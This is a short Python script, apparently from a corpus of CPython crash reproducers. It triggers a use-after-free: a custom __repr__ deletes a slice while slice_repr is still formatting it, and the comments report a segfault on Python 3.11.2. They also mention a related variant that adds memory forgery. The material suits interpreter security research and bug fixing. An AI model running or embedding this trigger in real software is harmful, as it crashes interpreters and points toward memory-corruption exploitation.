# family: wall (memory: a container's repr hands each item to repr() borrowed; code that repr runs empties it)   goal: crash   interpreter: /usr/bin/python3
# Of our own, beside X182: the crash alone, without the forgery. The container holds a
# slice(A(), [...], [...]) alone; A.__repr__, run by the slice's repr inside the
# container's, empties it: the slice and its lists are freed while slice_repr still
# formats them (SIGSEGV on the image's 3.11.2). The wall: repr_held.
import types

class Pad:
    def __repr__(self):
        return "p"


class A:
    def __repr__(self):
        drop()
        refill = [[Pad() for _ in range(9)] for _ in range(400)]
        return "a"


for i in range(30):
    S = slice(A(), [Pad() for _ in range(5)], [Pad() for _ in range(5)])
    H = types.SimpleNamespace(x=S)

    def drop():
        del H.x
    del S
    out = repr(H)
print("survived", out[:60])
